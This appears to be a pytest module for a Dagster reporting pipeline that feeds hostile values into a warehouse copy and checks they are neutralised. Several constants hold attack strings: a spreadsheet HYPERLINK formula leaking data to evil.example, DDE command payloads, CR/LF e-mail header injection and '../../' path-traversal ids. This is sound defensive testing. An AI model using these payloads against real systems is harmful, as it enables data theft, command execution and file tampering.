"""Hostile names and ids through the real report assets, on a copy of the attribution warehouse
whose marts the tests fill with payloads: ids that would be paths, spreadsheet formulas and DDE
payloads, matplotlib math, e-mail header injection, a sponsor whose campaigns are gone, and
webhook URLs with credentials in them. Each case has its expected outcome (refused with a reason,
skipped with a message, or stored safely) and the other partitions of the same run are stored."""

from __future__ import annotations

import csv
import email
import email.policy
import http.server
import io
import threading
import uuid
from decimal import Decimal, InvalidOperation
from pathlib import Path

import dagster as dg
import psycopg
import pytest
import yaml
from psycopg import sql

from assets.reports.assets import (CAMPAIGN_PARTITIONS, SPONSOR_PARTITIONS, campaign_report, sponsor_report,
                                   valid_partition_key)
from assets.reports.content import ReportError, ReportRequest
from assets.reports.delivery import ReportDeliveryResource
from assets.reports.generate import enforce_retention
from pipelines.alerts import AlertNotPosted, alert_on_check_failure, alert_on_run_failure, post_alert
from resources.identifiers import InvalidIdentifier, is_valid_identifier, safe_path, validate_identifier
from resources.redaction import redact_url
from pipelines.reports import report_partitions_sensor
from resources.settings import get_settings
from resources.report_store import ReportStoreResource
from resources.warehouse import WarehouseResource, warehouse_at, with_database
from tests.conftest import query
from tests.test_reports import assert_each_partition_has_its_own_report, report_partitions
from tests.test_reports import smtp  # noqa: F401 (the loopback SMTP server fixture)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
MATH_TITLE = "Big $$ Energy"
AT_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_TITLE = "+1+cmd|' /C notepad'!A0"
CRLF_NAME = "Spring push\r\nBcc: everyone@victim.example\r\nX-Injected: yes"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
SECRET = "S3CRET"   # every credential below carries it: no stored or logged text may


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


@pytest.fixture(scope="module")
def hostile(attribution_warehouse, admin_url):
    """A copy of the attribution warehouse (a template clone: seconds, not a rebuild) whose marts
    carry the payloads: campaign A's name a HYPERLINK formula, its sponsor a DDE payload, its
    shows `Big $$ Energy` and an @-formula (another show a +formula); campaign B's name with CR/LF and headers after it; a
    copied campaign row with the id `../../x`; a podcast row of a tenant `../../evil`."""
    source = psycopg.conninfo.conninfo_to_dict(attribution_warehouse["url"])["dbname"]
    name = f"t_hostile_{uuid.uuid4().hex[:8]}"
    with psycopg.connect(admin_url, autocommit=True) as conn:
        conn.execute(sql.SQL("create database {} template {}").format(sql.Identifier(name), sql.Identifier(source)))
    url = with_database(admin_url, name)
    tenant, a, b, n = query(url, """
        select tenant_id, (array_agg(campaign_id order by impressions desc, campaign_id))[1],
               (array_agg(campaign_id order by impressions desc, campaign_id))[2],
               (array_agg(campaign_id order by impressions desc, campaign_id))[3]
        from marts.mart_campaign_roi where is_selected_model group by 1 having count(*) >= 3
        order by count(*) desc, 1 limit 1""")[0]
    sponsor = query(url, "select sponsor_id from marts.mart_campaign_roi where tenant_id = %s and campaign_id = %s "
                         "limit 1", (tenant, a))[0][0]
    shows = [r[0] for r in query(url, "select distinct podcast_id from marts.mart_campaign_roi_by_placement "
                                      "where tenant_id = %s and campaign_id = %s order by 1", (tenant, a))]
    assert len(shows) >= 2, shows
    other = query(url, "select podcast_id from marts.dim_podcasts where tenant_id = %s and podcast_id <> all(%s) "
                       "order by 1 limit 1", (tenant, shows))[0][0]
    with psycopg.connect(url) as conn:
        conn.execute("update marts.mart_campaign_roi set campaign_name = %s where tenant_id = %s and campaign_id = %s",
                     (HYPERLINK, tenant, a))
        conn.execute("update marts.mart_campaign_roi set campaign_name = %s where tenant_id = %s and campaign_id = %s",
                     (CRLF_NAME, tenant, b))
        conn.execute("update marts.mart_campaign_roi set sponsor_name = %s where tenant_id = %s and sponsor_id = %s",
                     (DDE, tenant, sponsor))
        for show, title in zip((*shows[:2], other), (MATH_TITLE, AT_TITLE, PLUS_TITLE)):
            conn.execute("update marts.dim_podcasts set title = %s where podcast_id = %s", (title, show))
            conn.execute("update marts.mart_campaign_roi_by_placement set podcast_title = %s where podcast_id = %s",
                         (title, show))
        conn.execute("create temp table escapee as select * from marts.mart_campaign_roi "
                     "where tenant_id = %s and campaign_id = %s", (tenant, n))
        conn.execute("update escapee set campaign_id = '../../x'")
        conn.execute("insert into marts.mart_campaign_roi select * from escapee")
        conn.execute("create temp table evil as select * from marts.dim_podcasts limit 1")
        conn.execute("update evil set tenant_id = '../../evil', title = %s", (HYPERLINK,))
        conn.execute("insert into marts.dim_podcasts select * from evil")
    yield {"url": url, "tenant": tenant, "sponsor": sponsor, "a": a, "b": b, "n": n, "shows": shows}
    with psycopg.connect(admin_url, autocommit=True) as conn:
        conn.execute(sql.SQL("drop database if exists {} with (force)").format(sql.Identifier(name)))


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    return ReportStoreResource(base_url=str(tmp_path_factory.mktemp("hostile") / "reports"))


class _Hook(http.server.BaseHTTPRequestHandler):
    """Answers 500 to report webhooks (a failed delivery is what gets reported and alerted),
    404 to paths with `refuse` in them, 200 to the rest; keeps every body it was sent."""

    bodies: list[str] = []

    def do_POST(self):  # noqa: N802 (http.server's naming)
        self.bodies.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        status = 500 if "/services/" in self.path else 404 if "refuse" in self.path else 200
        self.send_response(status)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def hook():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hook)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], _Hook.bodies
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def instance():
    with dg.instance_for_test() as instance:
        yield instance


def _resources(url, store, **delivery):
    return {"warehouse": WarehouseResource(database_url=url), "report_store": store,
            "report_delivery": ReportDeliveryResource(wait_initial_seconds=0.01, wait_max_seconds=0.02, **delivery)}


def _backfill(asset, keys, instance, resources, formats):
    return dg.materialize([asset], instance=instance, resources=resources, raise_on_error=False,
                          tags={"dagster/asset_partition_range_start": keys[0],
                                "dagster/asset_partition_range_end": keys[-1]},
                          run_config={"ops": {asset.op.name: {"config": {"formats": formats}}}})


def test_identifier_pattern_and_safe_path(tmp_path):
    for good in ("northwind", "cmp-northwind-001", "sp_acme.2", "A" * 128):
        assert is_valid_identifier(good) and validate_identifier("campaign id", good) == good
    for bad in ("", ".", "..", "../../x", "a/b", "a\\b", "a:b", "-lead", ".hidden", "x\n", "a b", "é", "A" * 129, None, 7):
        assert not is_valid_identifier(bad), bad
    with pytest.raises(InvalidIdentifier, match=r"^invalid campaign id '\.\./\.\./x': an id is 1 to 128"):
        validate_identifier("campaign id", "../../x")

    root = tmp_path / "root"
    (root / "tenant").mkdir(parents=True)
    (root / "tenant" / "out").symlink_to(tmp_path)   # a link inside the root that points out of it
    assert safe_path(root, "tenant", "r.pdf") == root / "tenant" / "r.pdf"
    for parts in (("..", "x"), ("tenant", "../../x"), ("/etc",), ("",), ("tenant", "out", "x"), ("a\x00",)):
        with pytest.raises(InvalidIdentifier):
            safe_path(root, *parts)

    store = ReportStoreResource(base_url=str(root))
    with pytest.raises(InvalidIdentifier):
        store.write("tenant/../../escaped.pdf", b"x")
    with pytest.raises(InvalidIdentifier):
        store.write("tenant/out/escaped.pdf", b"x")
    with pytest.raises(InvalidIdentifier, match="not under the report store"):
        store.delete(str(tmp_path / "victim.txt"))
    assert not list(tmp_path.glob("escaped*"))
    for tenant, campaign in (("../../t", "c"), ("t", "../../x"), ("t", "a/b"), ("t:u", "c")):
        with pytest.raises(ReportError, match="invalid (tenant|campaign) id"):
            ReportRequest(tenant, campaign_id=campaign)


def test_one_run_of_hostile_partitions_stores_every_good_report(hostile, store, instance, smtp, tmp_path):  # noqa: F811
    """One backfill: A (formulas, math), B (CR/LF name, e-mailed), N (plain), a campaign gone from
    the marts and an id that is a path. The bad id fails alone, the gone one is skipped, the
    three reports are written in every format, materialized each, and B's e-mail went out."""
    port, inbox = smtp
    url, tenant = hostile["url"], hostile["tenant"]
    recipients = tmp_path / "recipients.yaml"
    recipients.write_text(yaml.safe_dump({"recipients": [
        {"tenant": tenant, "campaign": hostile["b"], "email": ["buyer@agency.example"]}]}))
    keys = [f"{tenant}:{c}" for c in (hostile["a"], hostile["b"], "cmp-gone-from-marts", "../../x", hostile["n"])]
    instance.add_dynamic_partitions(CAMPAIGN_PARTITIONS.name, keys)   # Dagster itself accepts any key
    mails_before = len(inbox.messages)

    run = _backfill(campaign_report, keys, instance, _resources(url, store, smtp_host="127.0.0.1", smtp_port=port,
                                                                recipients_file=str(recipients)),
                    ["html", "pdf", "csv", "xlsx", "json"])

    assert not run.success
    failure = next(e for e in run.all_events if e.event_type_value == "STEP_FAILURE")
    description = failure.step_failure_data.user_failure_data.description
    assert description.startswith("1 of 5 report(s) not generated (3 generated, 1 skipped): ")
    assert f"{tenant}:../../x: report partition" in description and "two valid identifiers" in description
    materialized = {e.materialization.partition: e.materialization.metadata for e in run.get_asset_materialization_events()}
    assert set(materialized) == {keys[0], keys[1], keys[4]}
    assert instance.get_materialized_partitions(campaign_report.key) == set(materialized)
    assert any("cmp-gone-from-marts skipped" in entry.user_message and "is not in marts.mart_campaign_roi" in entry.user_message
               for entry in instance.all_logs(run.run_id))

    rows = query(url, "select campaign_id, count(*), count(distinct format) from reports.reports "
                      "where _batch_id = %s group by 1 order by 1", (run.run_id,))
    assert {c: (n, f) for c, n, f in rows} == {c: (10, 5) for c in (hostile["a"], hostile["b"], hostile["n"])}
    root = Path(store.root()).resolve()
    for (file_url,) in query(url, "select file_url from reports.reports where _batch_id = %s", (run.run_id,)):
        assert Path(file_url).resolve().is_relative_to(root) and Path(file_url).is_file()
    assert not (root.parent / "x").exists() and not list(root.parent.parent.glob("x*"))

    # Each partition of the run is recorded on its own: the three made with their own files, sizes,
    # checksums, period and freshness; the gone one skipped and the path-like one failed, with why.
    made, observed = report_partitions(instance, campaign_report.key, {run.run_id})
    assert set(made) == set(materialized)
    assert_each_partition_has_its_own_report(url, made)
    assert {k: m["status"].value for k, m in observed.items()} == {keys[2]: "skipped_subject_gone", keys[3]: "failed"}
    assert "is not in marts.mart_campaign_roi" in observed[keys[2]]["reason"].value
    assert "two valid identifiers" in observed[keys[3]]["reason"].value
    assert keys[2] not in instance.get_materialized_partitions(campaign_report.key)

    a = {r.data["file"]: r.data["url"] for r in materialized[keys[0]]["files"].value.records}
    from openpyxl import load_workbook

    book = load_workbook(a["xlsx"])
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {f"{HYPERLINK} — campaign report", f"{DDE} ({hostile['sponsor']})", MATH_TITLE, AT_TITLE} <= texts
    assert all(c.quotePrefix for c in cells if c.data_type == "s" and c.value.startswith(TRIGGERS))
    header, first = [c.value for c in book["roi_by_model"][1]], book["roi_by_model"][2]
    assert [first[header.index(name)].data_type for name in ("impressions", "revenue", "cost")] == ["n"] * 3

    seen = set()
    for part, file_url in a.items():
        if not part.startswith("csv/"):
            continue
        for row in csv.reader(io.StringIO(Path(file_url).read_text())):
            for cell in row:
                assert not cell.startswith(TRIGGERS) or _number(cell), (part, cell)
                seen.add(cell)
    assert {"'" + AT_TITLE, MATH_TITLE} <= seen

    page = Path(a["html"]).read_text()
    assert "Big $$ Energy" in page and "=HYPERLINK(&#34;http://evil.example" in page.replace("&quot;", "&#34;")
    from pypdf import PdfReader

    assert len(PdfReader(a["pdf"]).pages) >= 4  # the charts (with the math-like title) were drawn

    mails = [email.message_from_bytes(m.as_bytes(), policy=email.policy.default) for m in inbox.messages[mails_before:]]
    assert len(mails) == 1
    assert mails[0]["Subject"].startswith("Spring push Bcc: everyone@victim.example X-Injected: yes — campaign report")
    assert mails[0]["Bcc"] is None and mails[0]["X-Injected"] is None and mails[0]["To"] == "buyer@agency.example"

    again = _backfill(campaign_report, keys, instance, _resources(url, store), ["html", "pdf", "csv", "xlsx", "json"])
    assert not again.success  # the same input: the same refusal, the same reports re-issued, nothing new
    assert query(url, "select count(*) from reports.reports where _batch_id = %s", (again.run_id,)) == [(0,)]
    assert {e.materialization.partition for e in again.get_asset_materialization_events()} == set(materialized)


def test_sensor_refuses_path_ids_and_drops_gone_subjects(hostile, store, instance):
    """The sensor never adds a partition for the `../../x` campaign and removes the partition
    of a sponsor whose campaigns are gone; a sponsor run with such a partition still succeeds."""
    url, tenant = hostile["url"], hostile["tenant"]
    gone, real = f"{tenant}:sp-gone", f"{tenant}:{hostile['sponsor']}"
    instance.add_dynamic_partitions(SPONSOR_PARTITIONS.name, [gone, real])
    run = _backfill(sponsor_report, [gone, real], instance, _resources(url, store), ["json", "csv"])
    assert run.success
    assert [e.materialization.partition for e in run.get_asset_materialization_events()] == [real]
    assert run.get_asset_check_evaluations()[0].metadata["skipped_subject_gone"].value == {
        gone: f"sponsor {tenant}/sp-gone has no campaign in marts.mart_campaign_roi"}

    result = report_partitions_sensor(dg.build_sensor_context(instance=instance, resources={
        "warehouse": WarehouseResource(database_url=url)}))
    adds = {r.partitions_def_name: set(r.partition_keys) for r in result.dynamic_partitions_requests
            if isinstance(r, dg.AddDynamicPartitionsRequest)}
    deletes = {r.partitions_def_name: set(r.partition_keys) for r in result.dynamic_partitions_requests
               if isinstance(r, dg.DeleteDynamicPartitionsRequest)}
    assert adds[CAMPAIGN_PARTITIONS.name] and all(valid_partition_key(k) for keys in adds.values() for k in keys)
    assert f"{tenant}:../../x" in {f"{t}:{c}" for t, c in query(url, "select tenant_id, campaign_id from marts.mart_campaign_roi")}
    assert gone in deletes[SPONSOR_PARTITIONS.name] and real not in deletes[SPONSOR_PARTITIONS.name]
    assert {f"{tenant}:../../x", f"{tenant}:cmp-gone-from-marts"} <= deletes[CAMPAIGN_PARTITIONS.name]


def test_retention_never_deletes_outside_the_store(hostile, store, tmp_path):
    url = hostile["url"]
    victim = tmp_path / "victim.txt"
    victim.write_text("not a report")
    with psycopg.connect(url) as conn:
        conn.execute("""
            insert into reports.reports (report_id, format, part, scope, tenant_id, sponsor_id, campaign_id, template,
                attribution_model, period_start, period_end, file_url, size_bytes, checksum_sha256, content_sha256,
                generated_at, expires_at)
            select 'escape-report', 'json', '', scope, tenant_id, sponsor_id, campaign_id, template, attribution_model,
                   period_start, period_end, %s, 1, 'x', 'x', now() - interval '40 days', now() - interval '10 days'
            from reports.reports limit 1""", (str(Path(store.root()) / ".." / ".." / victim.name),))
        conn.execute("update reports.reports set file_url = %s where report_id = 'escape-report'", (str(victim),))
    for _ in range(2):  # re-running changes nothing
        result = enforce_retention(warehouse_at(url), store)
        assert result.refused_files == (str(victim),) and victim.read_text() == "not a report"
    assert query(url, "select deleted_at from reports.reports where report_id = 'escape-report'") == [(None,)]


def test_tenant_exports_refuse_path_ids_and_defuse_formulas(hostile, tmp_path, monkeypatch):
    from assets.quality import EXPORTS

    monkeypatch.setenv("PODCAST_DATA_DIR", str(tmp_path / "data"))
    get_settings.cache_clear()
    try:
        export = next(a for a in EXPORTS if a.key == dg.AssetKey(["exports", "dim_podcasts"]))
        with dg.instance_for_test() as instance:
            run = dg.materialize([export], instance=instance, resources={
                "warehouse": WarehouseResource(database_url=hostile["url"])})
    finally:
        get_settings.cache_clear()
    meta = run.get_asset_materialization_events()[0].materialization.metadata
    assert list(meta["refused_tenants"].value) == ["../../evil"]
    folder = tmp_path / "data" / "exports" / "dim_podcasts"
    tenants = {t for (t,) in query(hostile["url"], "select distinct tenant_id from marts.dim_podcasts")} - {"../../evil"}
    assert {p.name for p in folder.iterdir()} == {f"{t}.csv" for t in tenants} == {f"{t}.csv" for t in meta["rows_by_tenant"].value}
    assert not list(tmp_path.rglob("evil*"))
    cells = [cell for path in folder.iterdir() for row in csv.reader(path.open()) for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS) and not _number(c)]
    assert {"'" + AT_TITLE, "'" + PLUS_TITLE, MATH_TITLE} <= set(cells)
    assert sum(meta["rows_by_tenant"].value.values()) == sum(len(list(csv.reader(p.open()))) - 1 for p in folder.iterdir())


def test_webhook_credentials_never_stored_logged_or_alerted(hostile, store, hook, tmp_path, monkeypatch):
    """A delivery and alerts to loopback webhooks whose URLs carry credentials in every place
    (userinfo, path tokens, query values): the warehouse (every text column of reports.* and
    ops.*), the Dagster instance (event log, compute logs, everything it wrote), the alert
    bodies and the error of a refused alert hold none of them."""
    port, bodies = hook
    url, tenant = hostile["url"], hostile["tenant"]
    report_hook = (f"http://hook-user-{SECRET}:pw-{SECRET}-1@127.0.0.1:{port}/services/T0{SECRET}A/B0{SECRET}B/"
                   f"XXXX{SECRET}XXXX?token=tok-{SECRET}&sig=sig-{SECRET}&key=key-{SECRET}")
    alert_hook = f"http://alert-{SECRET}:apw-{SECRET}@127.0.0.1:{port}/hooks/{SECRET}tok?key=k-{SECRET}"
    assert redact_url(report_hook) == f"http://127.0.0.1:{port}/services/***/***/***?token=***&sig=***&key=***"

    good = tmp_path / "recipients.yaml"
    good.write_text(yaml.safe_dump({"recipients": [{"tenant": tenant, "campaign": hostile["n"],
                                                     "webhook_url": report_hook}]}))
    bad = tmp_path / "bad.yaml"
    bad.write_text(yaml.safe_dump({"recipients": [{"tenant": tenant, "campaign": hostile["n"],
                                                    "webhook_url": f"ftp://u:ftp-{SECRET}@127.0.0.1/x{SECRET}"}]}))
    monkeypatch.setenv("PODCAST_ALERT_WEBHOOK_URL", alert_hook)
    get_settings.cache_clear()
    key = f"{tenant}:{hostile['n']}"
    try:
        with dg.instance_for_test() as instance:
            instance.add_dynamic_partitions(CAMPAIGN_PARTITIONS.name, [key])

            def run(recipients_file):
                return dg.materialize([campaign_report], partition_key=key, instance=instance, raise_on_error=False,
                                      resources=_resources(url, store, recipients_file=str(recipients_file),
                                                           max_attempts=2),
                                      run_config={"ops": {campaign_report.op.name: {"config": {"formats": ["json"]}}}})

            delivered, refused = run(good), run(bad)
            assert delivered.success and not refused.success
            check = delivered.get_asset_check_evaluations()[0]
            assert not check.passed and f"webhook to {redact_url(report_hook)}: webhook answered 500" in check.description
            assert "webhook_url must be an http(s) URL: ftp://127.0.0.1/***" in next(
                e for e in refused.all_events if e.event_type_value == "STEP_FAILURE"
            ).step_failure_data.user_failure_data.description

            resources = {"warehouse": WarehouseResource(database_url=url)}
            from dagster._core.events import DagsterEventType

            [failure] = instance.get_records_for_run(refused.run_id, of_type=DagsterEventType.RUN_FAILURE).records
            alert_on_run_failure(dg.build_run_status_sensor_context(
                sensor_name="alert_on_run_failure", dagster_instance=instance, resources=resources,
                dagster_run=instance.get_run_by_id(refused.run_id),
                dagster_event=failure.event_log_entry.dagster_event).for_run_failure())
            alert_on_check_failure(dg.build_sensor_context(instance=instance, resources=resources))
            with pytest.raises(AlertNotPosted) as not_posted:
                post_alert(alert_hook.replace("/hooks/", "/refuse/"), {"text": "x"})

            events = [entry.to_json() for r in instance.get_runs() for entry in instance.all_logs(r.run_id)]
            stored = [p for p in Path(instance.root_directory).rglob("*") if p.is_file()]
            instance_hits = [str(p) for p in stored if SECRET.encode() in p.read_bytes()]
    finally:
        get_settings.cache_clear()

    assert len(events) > 20 and not [e for e in events if SECRET in e]
    assert stored and instance_hits == []
    alerts = [b for b in bodies if '"blocks"' in b]
    assert len(alerts) >= 2 and not [b for b in bodies if SECRET in b]
    assert "***" in str(not_posted.value) and SECRET not in str(not_posted.value) and not_posted.value.__cause__ is None

    hits = []
    with psycopg.connect(url) as conn:
        columns = conn.execute("""
            select table_schema, table_name, column_name from information_schema.columns
            where table_schema in ('reports', 'ops') and data_type in ('text', 'character varying', 'json', 'jsonb')
            order by 1, 2, 3""").fetchall()
        assert ("reports", "deliveries", "target") in columns and ("reports", "deliveries", "error") in columns
        for schema, table, column in columns:
            found = conn.execute(sql.SQL("select count(*) from {} where {}::text like %s").format(
                sql.Identifier(schema, table), sql.Identifier(column)), (f"%{SECRET}%",)).fetchone()[0]
            if found:
                hits.append((schema, table, column, found))
        targets = conn.execute("select distinct target from reports.deliveries where channel = 'webhook' "
                               "and _batch_id = %s", (delivered.run_id,)).fetchall()
    assert hits == []
    assert targets == [(redact_url(report_hook),)]
